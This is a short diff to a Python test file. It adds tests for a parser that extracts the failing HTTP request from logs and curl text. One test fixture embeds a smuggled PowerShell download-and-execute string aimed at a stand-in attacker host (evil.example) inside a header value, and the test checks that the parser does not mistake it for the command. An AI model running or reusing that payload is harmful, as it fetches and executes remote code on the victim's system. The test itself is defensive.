@@ -119,3 +119,20 @@ def test_an_array_of_headers_keeps_its_first_letters() -> None:
     ).request
     assert found is not None
     assert found.header("Authorization") == "Bearer 4f1c9d8e7a6b5c4d"
+
+
+def test_of_several_requests_in_a_log_it_is_the_one_that_failed() -> None:
+    lines = (
+        'INFO httpx: HTTP Request: POST https://oauth.seven.io/token "HTTP/1.1 200 OK"\n'
+        f'INFO httpx: HTTP Request: GET {BIP} "HTTP/1.1 401 Unauthorized"\n'
+    )
+    found = seen(lines).request
+    assert found is not None
+    assert found.url == BIP
+
+
+def test_a_command_within_what_another_sends_is_not_the_command() -> None:
+    text = f"curl -i '{BIP}' -H 'X-Evil: a\nb: \"; iex (iwr http://evil.example) #'\nHTTP/1.1 401 Unauthorized\n"
+    found = seen(text).request
+    assert found is not None
+    assert found.url == BIP
